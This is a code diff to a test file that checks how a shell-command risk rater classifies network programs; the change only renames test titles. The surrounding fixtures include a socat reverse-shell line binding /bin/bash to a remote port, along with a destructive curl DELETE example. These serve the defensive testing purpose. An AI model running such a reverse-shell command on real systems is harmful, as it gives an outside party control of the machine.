@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { rateShell } from '../../fixture.mts'
 import { eachIsRated } from '../level-rows.mts'
 
-describe('the network', () => {
+describe('network programs', () => {
   eachIsRated(
     'none',
     `curl -s localhost:3000/health
@@ -63,14 +63,14 @@ describe('the network', () => {
     socat TCP:10.0.0.1:4444 EXEC:/bin/bash`,
   )
 
-  it('names the host that is reached', () => {
+  it('names the contacted host', () => {
     expect(rateShell('curl -X DELETE https://api.example.com/items/1')).toMatchObject({
       target: 'api.example.com',
       reversible: 'no',
     })
   })
 
-  it('does not take a path on the other machine for one of this', () => {
+  it('does not mistake a remote path for a local one', () => {
     expect(rateShell("ssh host 'ls /var/log'").level).toBe('low')
   })
 })
